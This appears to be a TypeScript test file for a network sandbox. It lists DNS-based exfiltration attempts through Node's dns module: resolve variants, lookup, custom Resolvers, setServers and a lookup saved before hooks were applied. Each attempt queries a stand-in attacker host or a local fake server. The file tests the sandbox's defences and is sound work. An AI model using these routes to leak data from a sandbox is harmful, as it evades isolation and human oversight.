import dns from 'node:dns';
import promises from 'node:dns/promises';
import { promisify } from 'node:util';
import { type Attack, family, type Scene } from '../attack.ts';

/** Resolves with the answer, or rejects with the error, of a function that calls back. */
const asked = (ask: (done: (error: Error | null, ...results: unknown[]) => void) => void): Promise<unknown> => promisify(ask)();

/** Names that hold what they carry out. The server knows none of them: what it is asked is what reaches it. */
export const dnsAttacks: readonly Attack[] = family(
  'node:dns',
  ['name-queries', 'saved-functions'],
  [
    ['resolve', 'dns-query', ({ evil }) => known(asked((done) => dns.resolve(evil.host, done)))],
    ['resolve of a type', 'dns-query', ({ evil }) => known(asked((done) => dns.resolve(evil.host, 'TXT', done)))],
    ['resolve4', 'dns-query', ({ evil }) => known(asked((done) => dns.resolve4(evil.host, done)))],
    ['resolve6', 'dns-query', ({ evil }) => known(asked((done) => dns.resolve6(evil.host, done)))],
    ['resolveTxt', 'dns-query', ({ evil }) => known(asked((done) => dns.resolveTxt(evil.host, done)))],
    ['resolveMx', 'dns-query', ({ evil }) => known(asked((done) => dns.resolveMx(evil.host, done)))],
    ['resolveSrv', 'dns-query', ({ evil }) => known(asked((done) => dns.resolveSrv(evil.host, done)))],
    ['resolveAny', 'dns-query', ({ evil }) => known(asked((done) => dns.resolveAny(evil.host, done)))],
    ['resolveNs', 'dns-query', ({ evil }) => known(asked((done) => dns.resolveNs(evil.host, done)))],
    ['resolveCname', 'dns-query', ({ evil }) => known(asked((done) => dns.resolveCname(evil.host, done)))],
    ['reverse', 'dns-query', (scene) => known(asked((done) => dns.reverse(addressOf(scene), done)))],
    ['lookup', 'host-not-allowed', ({ evil }) => asked((done) => dns.lookup(evil.host, done))],
    ['lookup of all', 'host-not-allowed', ({ evil }) => asked((done) => dns.lookup(evil.host, { all: true }, done))],
    ['lookupService', 'dns-query', (scene) => asked((done) => dns.lookupService(addressOf(scene), 80, done))],
    ['promises.resolve4', 'dns-query', ({ evil }) => known(promises.resolve4(evil.host))],
    ['promises.resolveTxt', 'dns-query', ({ evil }) => known(promises.resolveTxt(evil.host))],
    ['promises.lookup', 'host-not-allowed', ({ evil }) => promises.lookup(evil.host)],
    ['promises.lookupService', 'dns-query', (scene) => promises.lookupService(addressOf(scene), 80)],
    ['dns.promises.resolve6', 'dns-query', ({ evil }) => known(dns.promises.resolve6(evil.host))],
    ['promisify(lookup)', 'host-not-allowed', ({ evil }) => promisify(dns.lookup)(evil.host)],
    ['a lookup that was taken before', 'host-not-allowed', ({ early, evil }) => promisify(early.lookup)(evil.host), { layers: ['saved-functions'] }],
    ['a Resolver', 'dns-query', ({ evil }) => known(asked((done) => resolverOf(dns.Resolver, evil.udpPort).resolve4('secret.test', done)))],
    ['a Resolver for TXT', 'dns-query', ({ evil }) => known(asked((done) => resolverOf(dns.Resolver, evil.udpPort).resolveTxt('secret.test', done)))],
    ['a Resolver of promises', 'dns-query', ({ evil }) => known(resolverOf(promises.Resolver, evil.udpPort).resolve4('secret.test'))],
    [
      'a Resolver that was there before',
      'dns-query',
      async ({ evil, outside }) => {
        const resolver = await outside(async () => resolverOf(dns.Resolver, evil.udpPort));
        await known(asked((done) => resolver.resolve4('secret.test', done)));
      },
    ],
    [
      'servers of its own',
      'dns-query',
      async ({ evil }) => {
        const before = dns.getServers();
        dns.setServers([`127.0.0.1:${evil.udpPort}`]);
        try {
          await known(asked((done) => dns.resolve4('secret.test', done)));
        } finally {
          dns.setServers(before);
        }
      },
    ],
  ],
);

/** To be asked is all that the server wants; that it knows no such name is no failure. */
async function known(answer: Promise<unknown>): Promise<unknown> {
  try {
    return await answer;
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENOTFOUND') return undefined;
    throw error;
  }
}

/** An address that stands for a scene, for questions that hold no name. */
function addressOf({ number }: Scene): string {
  return `127.1.${number >> 8}.${number & 0xff}`;
}

function resolverOf<Resolver extends { setServers(servers: readonly string[]): void }>(Class: new (options: object) => Resolver, port: number): Resolver {
  const resolver = new Class({ tries: 1, timeout: 1_000 });
  resolver.setServers([`127.0.0.1:${port}`]);
  return resolver;
}
